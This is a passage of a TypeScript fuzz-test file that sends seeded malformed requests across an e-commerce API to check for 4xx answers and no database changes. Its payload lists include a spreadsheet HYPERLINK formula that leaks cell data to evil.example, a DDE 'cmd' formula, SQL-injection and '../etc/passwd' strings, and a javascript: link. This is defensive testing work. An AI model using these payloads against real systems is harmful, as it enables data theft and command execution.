import { Agent, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADDRESS_MAX, NAME_MAX } from '../../src/contract/auth.ts';
import { callList, type CallName } from '../../src/contract/calls.ts';
import { CATEGORY_NAME_MAX } from '../../src/contract/category.ts';
import { MAX_CART_ENTRIES, PHOTO_MAX_BYTES } from '../../src/contract/limits.ts';
import { PRODUCT_DESCRIPTION_MAX, PRODUCT_NAME_MAX, SEARCH_KEYWORD_MAX } from '../../src/contract/product.ts';
import {
  ABOUT_MAX,
  ANNOUNCEMENT_MAX,
  BANNER_HEADING_MAX,
  POLICY_MAX,
  SHOP_ADDRESS_MAX,
  SHOP_EMAIL_MAX,
  SHOP_PHONE_MAX,
} from '../../src/contract/shop-content.ts';
import { KEYED_BODY_MAX } from '../../src/server/plugins/answer-cache/keys.ts';
import { MAINTENANCE_HEADER } from '../../src/server/modules/backup/routes.ts';
import { type MadeUser, makeAdmin, makeCategory, makeProduct, makeUser, multipart, pngImage } from '../factories.ts';
import { snapshotDatabase, withoutFailedAttempts } from '../setup/db-snapshot.ts';
import { call, createTestApp, type TestApp } from '../setup/test-app.ts';

/**
 * Thousands of generated bad requests across every call of the API: each must answer a 4xx (or, for a
 * read, a 200 that reads nothing wrong), never a 5xx, and together they must change nothing at all.
 * Every call of the table is reached (at least MIN_PER_CALL times); a request that reaches no route is a
 * bug of the generator, not a pass. A quarter go over a real socket to the listening server, so the
 * pre-router (the answer cache's own request listener, which reads POST bodies itself) is fuzzed too.
 * The generator is seeded, so a failure names a request that can be replayed.
 */
// Grown with the table of calls (issue 18's variant and gallery calls, issue 19's settings, shipping, guest orders and discount codes, issue 20's shop pages and admin lists): every call still gets 10 or more.
const REQUESTS = 5000;
const SEED = 20261123;
const MIN_PER_CALL = 10;
const OVER_SOCKET = 0.25;
/** What the not-found handler answers for an address no route has (a missing row answers other words). */
const NO_SUCH_ROUTE = /^Not found: /;

/** Spreadsheet formulas (OWASP's CSV injection prefixes: =, +, -, @, tab, carriage return). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** The call of the table an address and method reach (by the call's path template), if any. */
const templates = callList.map(([name, entry]) => ({
  name,
  method: entry.method,
  pattern: new RegExp(`^/api/v1${entry.path.replace(/:\w+/g, '[^/]+')}/?$`),
}));
const callOf = (method: string, url: string): CallName | undefined =>
  templates.find((template) => template.method === method && template.pattern.test(url.split('?')[0] ?? ''))?.name;
/** Reads (GET, and the cacheable POST of the catalogue's filters) may answer 200: they change nothing. */
const readCalls = new Set(callList.filter(([, entry]) => entry.method === 'GET' || entry.cache).map(([name]) => name));

function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let x = state;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  return { next, pick };
}

type Kind =
  | 'nul'
  | 'surrogate'
  | 'control'
  | 'too-long'
  | 'wrong-type'
  | 'blank'
  | 'big-number'
  | 'bad-number'
  | 'bad-id'
  | 'bad-page'
  | 'bad-slug'
  | 'bad-json'
  | 'bad-multipart'
  | 'bad-photo'
  | 'bad-token'
  | 'unknown-id'
  | 'bad-url'
  | 'padded'
  | 'formula'
  | 'line-feed'
  | 'pre-router';

interface Fuzzed {
  kind: Kind;
  method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  url: string;
  token?: string | undefined;
  headers?: Record<string, string>;
  body?: unknown;
  /** Always over the socket (the pre-router's own cases). */
  socket?: true;
  /** Over the socket: the body in this many pieces, one event-loop turn apart. */
  pieces?: number;
  /** Over the socket: the client goes away after this many bytes of the body (no answer to check). */
  abortAfter?: number;
  /** The status it must answer (for the pre-router's cases that must be answered whole). */
  expect?: number;
}

/** An answer, from inject or from the socket: what the checks read. */
interface Answer {
  statusCode: number;
  headers: Record<string, string | string[] | number | undefined>;
  body: string;
}

/** The body's bytes and content type as inject would send them (an object as JSON). */
function encodeBody(body: unknown, headers: Record<string, string>): Buffer | undefined {
  if (body === undefined) return undefined;
  if (Buffer.isBuffer(body)) return body;
  if (typeof body === 'string') return Buffer.from(body);
  if (!Object.keys(headers).some((name) => name.toLowerCase() === 'content-type')) headers['content-type'] = 'application/json';
  return Buffer.from(JSON.stringify(body));
}

describe('fuzz: generated bad requests across every call', () => {
  let t: TestApp;
  let admin: MadeUser;
  let shopper: MadeUser;
  let categoryId: string;
  let productId: string;
  let orderId: string;
  let productSlug: string;
  let photo: Buffer;
  let port: number;
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });

  /** One request over a real socket to the listening server, with exactly these headers and body bytes. */
  const overSocket = (request: Fuzzed): Promise<Answer> =>
    new Promise((resolve, reject) => {
      const headers: Record<string, string> = { ...request.headers };
      if (request.token !== undefined) headers.authorization = request.token;
      const body = encodeBody(request.body, headers);
      if (body && (request.pieces === undefined || request.abortAfter !== undefined)) headers['content-length'] = String(body.length);
      const outgoing = httpRequest({ host: '127.0.0.1', port, agent, method: request.method, path: request.url, headers }, (incoming) => {
        const chunks: Buffer[] = [];
        incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
        incoming.on('end', () =>
          resolve({ statusCode: incoming.statusCode ?? 0, headers: incoming.headers, body: Buffer.concat(chunks).toString() }),
        );
      });
      if (request.abortAfter !== undefined && body) {
        outgoing.on('error', () => resolve({ statusCode: 0, headers: {}, body: '' }));
        outgoing.write(body.subarray(0, request.abortAfter), () => setImmediate(() => outgoing.destroy()));
        return;
      }
      outgoing.on('error', (error) => reject(new Error(`${request.kind} ${request.method} ${request.url.slice(0, 100)}: ${error.message}`)));
      if (!body || request.pieces === undefined) return void outgoing.end(body);
      // In pieces: with a length the pre-router reads them; without one (chunked) it leaves them to Fastify.
      const size = Math.ceil(body.length / request.pieces);
      const writeFrom = (offset: number): void => {
        if (offset >= body.length) return void outgoing.end();
        outgoing.write(body.subarray(offset, offset + size), () => setImmediate(writeFrom, offset + size));
      };
      writeFrom(0);
    });

  beforeAll(async () => {
    t = await createTestApp({ AUTH_RATE_LIMIT_PER_MINUTE: '100000' });
    const db = t.database.db;
    admin = await makeAdmin(db);
    shopper = await makeUser(db);
    const category = await makeCategory(db, 'Fuzz Kitchen');
    categoryId = String(category.id);
    const product = await makeProduct(db, { categoryId: category.id, name: 'Fuzz Kettle', quantity: 50 });
    productId = String(product.id);
    const order = await call(t.app, 'POST', '/api/v1/auth/orders', {
      token: shopper.token,
      body: { cart: [{ _id: productId }] },
    });
    orderId = order.json().order._id;
    productSlug = product.slug;
    photo = await pngImage('#884422', 48);
    await t.app.listen({ host: '127.0.0.1', port: 0 });
    port = (t.app.server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    agent.destroy();
    await t.close();
  });

  it(`answers ${REQUESTS} bad requests without a 5xx and changes nothing`, { timeout: 240_000 }, async () => {
    const { next, pick } = prng(SEED);
    const long = (max: number) => 'x'.repeat(max + 1 + Math.floor(next() * 50));

    const badText = (max: number): [Kind, unknown] =>
      pick<[Kind, unknown]>([
        ['nul', `Fuzz\u0000${Math.floor(next() * 1000)}`],
        ['surrogate', `Fuzz \ud83d ${Math.floor(next() * 1000)}`],
        ['surrogate', `\udc00 trailing`],
        ['control', `Fuzz\u001b[31m${Math.floor(next() * 10)}`],
        ['control', `Fuzz\u0085`],
        ['too-long', long(max)],
        ['wrong-type', pick([42, true, null, [], { a: 1 }, ['x']])],
        ['blank', pick(['', '   ', '\t'])],
      ]);
    const badPathId = (): [Kind, string] =>
      pick<[Kind, string]>([
        ['bad-id', pick(['0', '-1', '1.5', 'abc', '2147483648', '99999999999999999999', '1e3', '0x10', '%20'])],
        ['nul', '%00'],
        ['bad-url', pick(['%', '%E0%A4%A', '%ED%A0%BD'])],
        ['too-long', '9'.repeat(1001)],
      ]);
    const badPage = (): [Kind, string] =>
      pick<[Kind, string]>([
        ['bad-page', pick(['0', '-1', '1.5', 'abc', '2147483648', '1e12', 'NaN', 'Infinity', ''])],
        ['nul', '1%00'],
        ['bad-url', '%'],
      ]);
    const badSlug = (): [Kind, string] =>
      pick<[Kind, string]>([
        ['bad-slug', encodeURIComponent(pick(["x' OR '1'='1", 'UPPER', 'a--b', '-a', 'café', '../etc/passwd', 'a b']))],
        ['nul', 'tea%00pot'],
        ['bad-url', pick(['%', '%ED%A0%BD'])],
        ['too-long', 'a'.repeat(1001)],
        ['unknown-id', `no-such-${Math.floor(next() * 1e6)}`],
      ]);
    const badNumberString = (): [Kind, string] =>
      pick<[Kind, string]>([
        ['big-number', pick(['1e309', '99999999999', '1000000.01', '2147483648'])],
        ['bad-number', pick(['-1', 'NaN', 'abc', '1,5', '12.345', '', ' ', 'Infinity'])],
      ]);
    const badToken = (): string =>
      pick([
        'garbage',
        'Bearer ',
        `Bearer ${'x'.repeat(5000)}`,
        'eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.',
        `${admin.token.slice(0, -3)}abc`,
      ]);

    /** A call's address with valid-looking ids (of rows that exist where it matters, for the reads). */
    const pathOf = (path: string) =>
      `/api/v1${path.replace(/:(\w+)/g, (_, param: string) => ({ page: '1', keyword: 'kettle', slug: productSlug, pid: productId, cid: categoryId, orderId, id: productId })[param] ?? '987654')}`;
    /** The items in turn, over and over. */
    const cycle = <T>(items: readonly T[]) => {
      let turn = 0;
      return () => items[turn++ % items.length] as T;
    };

    const validRegistration = () => ({
      name: 'Fuzz Person',
      email: `fuzz-${Math.floor(next() * 1e9)}@example.com`,
      password: 'fuzz-password',
      phone: '555-0100',
      address: '1 Fuzz Street',
      answer: 'Chess',
    });
    const productFields = () => ({
      name: 'Fuzz Product',
      description: 'A product from the fuzzer.',
      price: '10',
      quantity: '5',
      category: categoryId,
    });

    // Every call behind a guard in turn, without the right to make it: a bad token, none, or a shopper's on an admin call.
    const nextGuarded = cycle(callList.filter(([, entry]) => entry.access !== 'public'));
    const guardedCall = (): Fuzzed => {
      const [name, entry] = nextGuarded();
      const token = pick([badToken(), undefined, ...(entry.access === 'admin' ? [shopper.token, shopper.token] : [])]);
      const headers: Record<string, string> = name === 'backup' && next() < 0.5 ? { [MAINTENANCE_HEADER]: pick(['', 'guess', 'x'.repeat(64)]) } : {};
      const body = entry.method === 'POST' || entry.method === 'PUT' ? pick([{ name: 'Token Thief' }, {}]) : undefined;
      // Without a JSON body to check first, the guard is what answers: 403 for the shopper, 401 for the rest.
      const refused = entry.body ? {} : { expect: token === shopper.token ? 403 : 401 };
      return { kind: 'bad-token', method: entry.method, url: pathOf(entry.path), token, headers, body, ...refused };
    };
    // Every public read in turn, with padded, unknown or formula query parameters (answered, never kept by the cache).
    const nextPublicRead = cycle(callList.filter(([, entry]) => entry.access === 'public' && entry.method === 'GET'));
    const publicRead = (): Fuzzed => {
      const [, entry] = nextPublicRead();
      const [kind, query] = pick<[Kind, string]>([
        ['padded', `pad=${'p'.repeat(pick([1_500, 4_000, 15_000, 16 * 1024 + 1]))}`],
        ['padded', Array.from({ length: 200 }, (_, i) => `k${i}=${i}`).join('&')],
        ['formula', `page=${encodeURIComponent(pick(FORMULAS))}`],
        ['bad-page', `page=${badPage()[1]}`],
        ['bad-url', pick(['%', 'a=%E0%A4%A', 'page=1&page=2'])],
      ]);
      return { kind, method: 'GET', url: `${pathOf(entry.path)}?${query}` };
    };

    const generators: Array<() => Promise<Fuzzed> | Fuzzed> = [
      // Account calls: one field of an otherwise valid body is broken.
      () => {
        const field = pick(['name', 'email', 'password', 'phone', 'address', 'answer'] as const);
        const max = { name: NAME_MAX, email: 254, password: 128, phone: 30, address: ADDRESS_MAX, answer: 100 }[field];
        const [kind, value] = badText(max);
        return { kind, method: 'POST', url: '/api/v1/auth/register', body: { ...validRegistration(), [field]: value } };
      },
      () => {
        const [kind, value] = badText(128);
        const field = pick(['email', 'password'] as const);
        // A password of spaces is a real (wrong) attempt: passwords are taken as typed. Send none instead.
        const body = { email: shopper.email, password: 'whatever-pass', [field]: kind === 'blank' ? '' : value };
        return { kind, method: 'POST', url: '/api/v1/auth/login', body };
      },
      () => {
        const field = pick(['email', 'answer', 'newPassword'] as const);
        const [kind, value] = badText(128);
        const body = { email: shopper.email, answer: 'Football', newPassword: 'new-password', [field]: value };
        return { kind, method: 'POST', url: '/api/v1/auth/forgot-password', body };
      },
      () => {
        const field = pick(['name', 'phone', 'address', 'password'] as const);
        const [kind, value] = badText(ADDRESS_MAX);
        if (kind === 'blank' && field === 'password') return { kind: 'wrong-type', method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body: { password: 12 } };
        return { kind, method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body: { [field]: value } };
      },
      ...Array.from({ length: 6 }, () => guardedCall),
      ...Array.from({ length: 2 }, () => publicRead),
      // The owner's reads (answered, changing nothing), with bad pages, filters and padding.
      () => {
        const [kind, url] = pick<[Kind, string]>([
          ['bad-page', `/api/v1/auth/all-orders?page=${badPage()[1]}`],
          ['padded', `/api/v1/auth/all-orders?pad=${'p'.repeat(16 * 1024)}`],
          ['padded', `/api/v1/auth/dashboard?${pick(['pad=' + 'p'.repeat(5_000), 'from=yesterday', 'x=%00'])}`],
          ['padded', `/api/v1/admin/audit/people?${pick(['pad=' + 'p'.repeat(5_000), 'actor=abc', 'page=0'])}`],
          ['bad-id', `/api/v1/admin/audit.csv?actor=${pick(['-1', 'abc', '1.5', '2147483648'])}`],
          ['wrong-type', `/api/v1/admin/audit.csv?kind=${pick(['products', 'ALL', '%00', encodeURIComponent(pick(FORMULAS))])}`],
          ['padded', `/api/v1/admin/products.csv?${pick(['pad=' + 'p'.repeat(5_000), 'page=-1', 'format=%00'])}`],
          ['bad-page', `/api/v1/auth/all-users?page=${badPage()[1]}`],
        ]);
        return { kind, method: 'GET', url, token: admin.token };
      },
      // Spreadsheet formulas and bare line feeds in otherwise valid fields, refused for another reason
      // (an address that has an account, a password too short, a category or product that does not exist).
      async () => {
        const formula = pick(FORMULAS);
        const lineFeed = pick(['1 Fuzz Street\nSecond Line', '\n', 'Flat 2\n\n=1+1', 'Street\r\nTown\n']);
        const kind: Kind = next() < 0.6 ? 'formula' : 'line-feed';
        const where = pick(['register', 'profile', 'create-product', 'update-product', 'import'] as const);
        if (where === 'register') {
          const body = { ...validRegistration(), email: shopper.email, ...(kind === 'formula' ? { [pick(['name', 'phone', 'address', 'answer'])]: formula } : { address: lineFeed }) };
          return { kind, method: 'POST', url: '/api/v1/auth/register', body };
        }
        if (where === 'profile') {
          const body = { ...(kind === 'formula' ? { [pick(['name', 'phone', 'address'])]: formula } : { address: lineFeed }), password: pick(['x', '12345']), currentPassword: 'whatever' };
          return { kind, method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body };
        }
        if (where === 'import') {
          const name = kind === 'formula' ? formula : lineFeed;
          const csv = `slug,name,description,price,quantity,category\n,"${name.replace(/"/g, '""')}","${formula.replace(/"/g, '""')}",1,1,No Such Category ${Math.floor(next() * 1e6)}\n`;
          const form = await multipart({ apply: pick(['true', 'false']) }, { field: 'file', data: Buffer.from(csv), filename: 'fuzz.csv', type: 'text/csv' });
          return { kind, method: 'POST', url: '/api/v1/admin/products-import', token: admin.token, headers: form.headers, body: form.payload };
        }
        const fields = { ...productFields(), [pick(['name', 'description'])]: kind === 'formula' ? formula : lineFeed };
        const form = await multipart(where === 'create-product' ? { ...fields, category: '987654' } : fields);
        const url = where === 'create-product' ? '/api/v1/product/create-product' : '/api/v1/product/update-product/987654';
        return { kind, method: where === 'create-product' ? 'POST' : 'PUT', url, token: admin.token, headers: form.headers, body: form.payload };
      },
      // Bodies padded with an unknown key up to and past 16 kB (the size the answer cache keys by) and 100 kB.
      () => {
        const size = pick([KEYED_BODY_MAX - 40, KEYED_BODY_MAX, KEYED_BODY_MAX + 1, 64 * 1024, 101 * 1024]);
        const pad = (body: Record<string, unknown>) => {
          const bare = JSON.stringify({ ...body, pad: '' }).length;
          return { ...body, pad: 'p'.repeat(Math.max(0, size - bare)) };
        };
        const [url, body, token] = pick<[string, Record<string, unknown>, string | undefined]>([
          ['/api/v1/auth/register', { ...validRegistration(), email: shopper.email }, undefined],
          ['/api/v1/product/product-filters', { checked: [], radio: [] }, undefined],
          ['/api/v1/product/product-filters', { checked: [categoryId], radio: [0, 19], page: 1 }, undefined],
          ['/api/v1/category/create-category', { name: 'Fuzz Kitchen' }, admin.token],
        ]);
        return { kind: 'padded', method: 'POST', url, token, body: pad(body) };
      },
      // The pre-router's own body reading (over the socket only): content types at the edge of "plain JSON",
      // bodies in pieces without a length, and clients that go away mid-body.
      (): Fuzzed => {
        const valid = next() < 0.75;
        const body = JSON.stringify(valid ? pick([{ checked: [], radio: [] }, { checked: [categoryId], radio: [] }, { radio: [0, 19] }]) : { checked: ['abc'] });
        const variant = pick(['type', 'pieces', 'chunked', 'abort', 'encoding', 'bad-json'] as const);
        const base = { kind: 'pre-router' as const, method: 'POST' as const, url: '/api/v1/product/product-filters', socket: true as const };
        const json = { 'content-type': 'application/json' };
        // A valid body in plain JSON (however its type is written, in one piece or several) is answered.
        const answered = valid ? { expect: 200 } : {};
        if (variant === 'type') {
          if (next() < 0.5) return { ...base, headers: { 'content-type': pick(['application/json; charset=utf-8', 'APPLICATION/JSON', 'application/json;charset="UTF-8"']) }, body, ...answered };
          return { ...base, headers: { 'content-type': pick(['application/json; charset=latin1', 'application/json-patch+json', 'text/json', 'application/json; boundary=x']) }, body };
        }
        if (variant === 'pieces') return { ...base, headers: { ...json, 'content-length': String(Buffer.byteLength(body)) }, body, pieces: pick([2, 3, 7]), ...answered };
        if (variant === 'chunked') return { ...base, headers: json, body, pieces: pick([2, 3, 7]), ...answered };
        if (variant === 'abort') return { ...base, headers: json, body, abortAfter: Math.floor(body.length / 2) };
        if (variant === 'encoding') return { ...base, headers: { ...json, 'content-encoding': pick(['gzip', 'br', 'deflate']) }, body };
        return { ...base, headers: json, body: pick(['{"checked": [', '{"checked": []}{"radio": []}', '\ufeff{"checked": []}', '{"checked": [], "checked": [1]}']) };
      },
      // Checkout without an account and its links: one field of an otherwise valid body is broken.
      () => {
        const [kind, value] = badText(ADDRESS_MAX);
        const which = pick(['placeGuestOrder', 'guestOrder', 'payGuestOrder', 'confirmEmail'] as const);
        if (which === 'placeGuestOrder') {
          // The signed-in checkout's delivery address, method and code (issue 19): one part broken at a time;
          // region and postcode may be left blank, so theirs are values that are never one.
          const delivery = { name: 'Fuzz Guest', phone: '555-0100', country: 'FR', postcode: '75001', city: 'Paris', lines: '1 Fuzz Street' };
          const body = { cart: [{ _id: '1' }], email: 'fuzz-guest@example.com', delivery };
          const field = pick(['email', 'delivery', 'name', 'phone', 'country', 'city', 'lines', 'region', 'postcode', 'plain-address', 'rateId', 'code'] as const);
          const broken =
            field === 'email' || field === 'delivery' || field === 'code'
              ? { ...body, [field]: value }
              : field === 'rateId'
                ? { ...body, rateId: pick(['abc', '0', '-1', '1.5', '99999999999999999999', 42.5, null, [], { a: 1 }]) }
                : field === 'region'
                  ? { ...body, delivery: { ...delivery, region: pick(['not a region', 'TOOLONG', 42, null, '\u0000A']) } }
                  : field === 'postcode'
                    ? { ...body, delivery: { ...delivery, postcode: pick(['7500', 'x'.repeat(13), 'ABCDE', 75001, null]) } }
                    : field === 'plain-address'
                      ? { ...body, delivery: { name: 'Fuzz Guest', address: value, phone: '555-0100' } }
                      : { ...body, delivery: { ...delivery, [field]: value } };
          return { kind, method: 'POST', url: '/api/v1/auth/guest-orders', body: broken };
        }
        const url = { guestOrder: '/api/v1/auth/guest-orders/1', payGuestOrder: '/api/v1/auth/guest-orders/1/pay', confirmEmail: '/api/v1/auth/confirm-email' }[which];
        return { kind, method: 'POST', url, body: { token: value } };
      },
      // Calls with nothing else to break: the security answer and logout, with bad bodies and sessions.
      () => {
        if (next() < 0.5) {
          const [kind, value] = badText(100);
          const field = pick(['answer', 'currentPassword'] as const);
          // The other field is refused too: a wrong password would count as a failed sign-in (a change).
          const body = { answer: field === 'answer' ? value : '', currentPassword: field === 'currentPassword' ? value : 'p'.repeat(200) };
          return { kind, method: 'PUT', url: '/api/v1/auth/security-answer', token: shopper.token, body };
        }
        return { kind: 'bad-token', method: 'POST', url: '/api/v1/auth/logout', token: badToken() };
      },
      // Discount codes (issue 19): the shopper's check and the owner's calls, one field broken.
      () => {
        const [kind, value] = badText(40);
        const where = pick(['check', 'create', 'batch', 'update', 'rules'] as const);
        if (where === 'check') {
          const body = pick([
            { code: value, cart: [{ _id: '987654' }] },
            { code: 'NO-SUCH-CODE', cart: [{ _id: '987654' }] },
            { code: 'NO-SUCH-CODE', cart: value },
            { code: 'NO-SUCH-CODE', cart: [{ _id: '987654' }], email: value },
          ]);
          return { kind, method: 'POST', url: '/api/v1/checkout/code', body };
        }
        const rules = pick<Record<string, unknown>>([
          { kind: 'percent', value: pick([0, 101, -5, 1e308, '12x']) },
          { kind: 'fixed', value: pick([0, -1, 1.234, 'ten']) },
          { kind: value, value: 5 },
          { kind: 'fixed', value: 5, startsAt: '2030-01-02', endsAt: pick(['2030-01-01', value]) },
          { kind: 'fixed', value: 5, products: pick([['987654'], value, [value]]) },
          { kind: 'fixed', value: 5, categories: pick([['987654'], value]) },
          { kind: 'fixed', value: 5, maxUses: pick([0, -1, 1.5, value]) },
        ]);
        if (where === 'batch') return { kind, method: 'POST', url: '/api/v1/admin/discount-codes/batch', token: admin.token, body: { count: pick([0, 1001, -1, value, 1]), prefix: pick(['', value]), ...(next() < 0.5 ? rules : { kind: 'fixed', value: 0 }) } };
        const body = where === 'rules' ? { code: 'FUZZ-CODE', ...rules } : { code: value, kind: 'fixed', value: 1 };
        if (where === 'update' || where === 'rules') return { kind, method: 'PUT', url: '/api/v1/admin/discount-codes/987654', token: admin.token, body };
        return { kind, method: 'POST', url: '/api/v1/admin/discount-codes', token: admin.token, body };
      },
      // The shop's currency and locale: one field wrong, the other a good value.
      () => {
        const [kind, value] = badText(35);
        const body = pick([
          { currency: value, locale: 'de-DE' },
          { currency: 'EUR', locale: value },
        ]);
        return { kind, method: 'PUT', url: '/api/v1/auth/settings/money', token: admin.token, body };
      },
      // Shipping and the checkout's quote: one field of an otherwise valid body is broken.
      () => {
        const [kind, value] = badText(100);
        return pick<Fuzzed>([
          { kind, method: 'POST', url: '/api/v1/checkout/quote', body: { cart: [{ _id: productId }], address: { country: value } } },
          { kind, method: 'POST', url: '/api/v1/admin/shipping/zones', token: admin.token, body: { name: value, countries: ['FR'] } },
        ]);
      },
      // Categories.
      () => {
        const [kind, value] = badText(CATEGORY_NAME_MAX);
        return { kind, method: 'POST', url: '/api/v1/category/create-category', token: admin.token, body: { name: value } };
      },
      () => {
        if (next() < 0.5) {
          const [kind, id] = badPathId();
          return { kind, method: 'PUT', url: `/api/v1/category/update-category/${id}`, token: admin.token, body: { name: 'Renamed' } };
        }
        const [kind, value] = badText(CATEGORY_NAME_MAX);
        return { kind, method: 'PUT', url: `/api/v1/category/update-category/${categoryId}`, token: admin.token, body: { name: value } };
      },
      () => {
        const [kind, id] = next() < 0.8 ? badPathId() : (['unknown-id', String(900000 + Math.floor(next() * 1000))] as [Kind, string]);
        return { kind, method: 'DELETE', url: `/api/v1/category/delete-category/${id}`, token: admin.token };
      },
      // Catalogue reads.
      () => {
        const [kind, page] = badPage();
        return { kind, method: 'GET', url: `/api/v1/product/product-list/${page || '%20'}` };
      },
      () => {
        const [kind, page] = badPage();
        return { kind, method: 'GET', url: `${pick(['/api/v1/product/get-product', '/api/v1/product/product-category/fuzz-kitchen', '/api/v1/product/search/kettle', '/api/v1/auth/orders', '/api/v1/auth/all-users'])}?page=${page}`, token: admin.token };
      },
      () => {
        const variant = pick(['radio', 'checked', 'page', 'json'] as const);
        const body: Record<string, unknown> = { checked: [], radio: [] };
        let kind: Kind = 'big-number';
        if (variant === 'radio') {
          [kind, body.radio] = pick<[Kind, unknown]>([
            ['big-number', [1e9, 1e9]],
            ['big-number', [0, 1e300]],
            ['big-number', [2147483648, 2147483648]],
            ['bad-number', [-1, 5]],
            ['bad-number', [5]],
            ['wrong-type', ['a', 'b']],
            ['wrong-type', [null, null]],
            ['wrong-type', 'cheap'],
          ]);
        } else if (variant === 'checked') {
          [kind, body.checked] = pick<[Kind, unknown]>([
            ['bad-id', ['abc']],
            ['bad-id', ['2147483648']],
            ['nul', ['1\u0000']],
            ['wrong-type', [1, 2]],
            ['too-long', Array.from({ length: 201 }, (_, i) => String(i + 1))],
          ]);
        } else if (variant === 'page') {
          [kind, body.page] = pick<[Kind, unknown]>([
            ['bad-page', 0],
            ['bad-page', 1.5],
            ['big-number', 2 ** 31],
            ['big-number', 1e308],
            ['wrong-type', '2x'],
          ]);
        } else {
          return { kind: 'bad-json', method: 'POST', url: '/api/v1/product/product-filters', headers: { 'content-type': 'application/json' }, body: pick(['{"checked": [', '[]', '"x"', 'null', '{"radio": [1e999, 1e999]}']) };
        }
        return { kind, method: 'POST', url: '/api/v1/product/product-filters', body };
      },
      () => {
        const [kind, value] = pick<[Kind, string]>([
          ['nul', 'ket%00tle'],
          ['control', 'ket%1Btle'],
          ['too-long', 'k'.repeat(SEARCH_KEYWORD_MAX + 1)],
          ['bad-url', pick(['%', '%ED%A0%BD', '%C0%80'])],
          ['blank', '%20%20'],
        ]);
        return { kind, method: 'GET', url: `/api/v1/product/search/${value}` };
      },
      () => {
        const [kind, slug] = badSlug();
        return { kind, method: 'GET', url: `/api/v1/product/${pick(['get-product', 'product-category', 'product-variants'])}/${slug}` };
      },
      () => {
        const [kind, id] = badPathId();
        const url = pick([
          `/api/v1/product/related-product/${id}/${categoryId}`,
          `/api/v1/product/related-product/${productId}/${id}`,
          `/api/v1/product/product-photo/${id}`,
          `/api/v1/product/gallery-photo/${id}`,
        ]);
        return { kind, method: 'GET', url };
      },
      // Variants and photos (issue 18): a grid, a gallery order or a variant's photos that break a rule, or a bad id.
      async () => {
        const variant = { price: 1, quantity: 1, options: ['S'] };
        const [kind, body] = pick<[Kind, unknown]>([
          ['too-long', { options: [{ name: 'Size', values: Array.from({ length: 101 }, (_, i) => `v${i}`) }], variants: [variant] }],
          ['wrong-type', { options: [{ name: 'Size', values: ['S', 's'] }], variants: [variant] }],
          ['wrong-type', { options: [{ name: 'Size', values: ['S'] }], variants: [{ ...variant, options: ['XL'] }] }],
          ['big-number', { options: [], variants: [{ price: 1e12, quantity: 1, options: [] }] }],
          ['nul', { options: [{ name: 'Si\u0000ze', values: ['S'] }], variants: [variant] }],
          ['formula', { options: [], variants: [{ price: 1, quantity: 1, options: [], sku: pick(FORMULAS), weight: -5 }] }],
        ]);
        const [idKind, id] = badPathId();
        const notAnImage = await multipart({ alt: 'A photo' }, { field: 'photo', data: Buffer.from('not an image'), filename: 'p.png', type: 'image/png' });
        return pick<Fuzzed>([
          { kind: 'bad-multipart', method: 'POST', url: `/api/v1/product/product-photos/${productId}`, token: admin.token, headers: notAnImage.headers, body: notAnImage.payload },
          { kind, method: 'PUT', url: `/api/v1/product/product-variants/${productId}`, token: admin.token, body },
          { kind, method: 'PUT', url: `/api/v1/product/product-photos/${productId}`, token: admin.token, body: { photos: [{ _id: 'abc', alt: 1 }] } },
          { kind: idKind, method: 'PUT', url: `/api/v1/product/variant-photos/${id}`, token: admin.token, body: { photos: [] } },
          { kind: idKind, method: 'DELETE', url: `/api/v1/product/product-photos/${productId}/${id}`, token: admin.token },
          { kind: idKind, method: 'GET', url: `/api/v1/product/admin-variants/${id}`, token: admin.token },
        ]);
      },
      // The shop's words and banners: one field of the details broken (a blank text is valid: not written), a
      // banner's form broken, a bad banner id.
      async () => {
        const field = pick(['email', 'phone', 'address', 'about', 'privacyPolicy', 'shippingPolicy', 'returnsPolicy', 'announcement'] as const);
        const max = { email: SHOP_EMAIL_MAX, phone: SHOP_PHONE_MAX, address: SHOP_ADDRESS_MAX, about: ABOUT_MAX, announcement: ANNOUNCEMENT_MAX }[field as string] ?? POLICY_MAX;
        const [textKind, textValue] = badText(max);
        const [kind, value] = textKind === 'blank' ? (['wrong-type', 7] as [Kind, unknown]) : [textKind, textValue];
        const details = pick<[Kind, unknown]>([
          [kind, field === 'announcement' ? { text: value, link: '', on: false } : value],
          ['bad-url', field === 'announcement' ? { text: 'Sale', link: pick(['javascript:alert(1)', '//evil.example', 'ftp://x', 'a b']), on: true } : { x: 1 }],
          ['blank', field === 'announcement' ? { text: '', link: '', on: true } : null],
        ]);
        const [idKind, id] = badPathId();
        const [headingKind, heading] = badText(BANNER_HEADING_MAX);
        const broken = await multipart(
          { heading: typeof heading === 'string' && headingKind !== 'blank' ? heading : 'x'.repeat(BANNER_HEADING_MAX + 1), position: pick(['0', '9', 'abc']) },
          { field: 'image', data: photo, filename: 'b.png', type: 'image/png' },
        );
        const notAnImage = await multipart({ heading: 'Sale' }, { field: 'image', data: Buffer.from('not an image'), filename: 'b.png', type: 'image/png' });
        const noImage = await multipart({ heading: 'Sale' });
        return pick<Fuzzed>([
          { kind: details[0], method: 'PUT', url: '/api/v1/shop/details', token: admin.token, body: { [field]: details[1] } },
          { kind: 'wrong-type', method: 'PUT', url: '/api/v1/shop/details', token: admin.token, body: pick([{}, { nonsense: 1 }, [], 'text']) },
          { kind: 'too-long', method: 'POST', url: '/api/v1/shop/banners', token: admin.token, headers: broken.headers, body: broken.payload },
